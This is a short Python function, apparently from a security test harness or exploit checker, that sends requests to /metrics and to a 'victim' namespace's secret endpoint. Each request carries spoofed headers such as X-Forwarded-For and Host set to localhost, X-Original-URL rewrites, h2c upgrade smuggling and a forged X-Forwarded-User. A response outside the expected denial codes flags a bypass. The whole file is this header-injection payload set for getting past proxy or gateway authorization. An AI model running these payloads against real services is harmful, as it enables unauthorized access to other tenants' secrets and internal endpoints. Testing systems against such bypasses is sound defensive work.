def attack():
    lines = ["X-Forwarded-For: 127.0.0.1", "Forwarded: for=127.0.0.1;host=localhost", "X-Real-IP: 127.0.0.1", "X-Original-URL: /metrics", "X-Rewrite-URL: /metrics", "X-HTTP-Method-Override: GET", "X-Forwarded-User: victim", "X-Namespace: victim", "Connection: Upgrade\r\nUpgrade: h2c", "Connection: Authorization", "Host: localhost", "Expect: 100-continue", "Via: 1.1 localhost"]
    answers = {}
    for line in lines:
        for target in ["/metrics", "/api/v1/namespaces/victim/actions/secret"]:
            answers[line + target] = talk(head("GET", target, own, line + "\r\n"))
    return judge(answers, [400, 403, 404, 417])
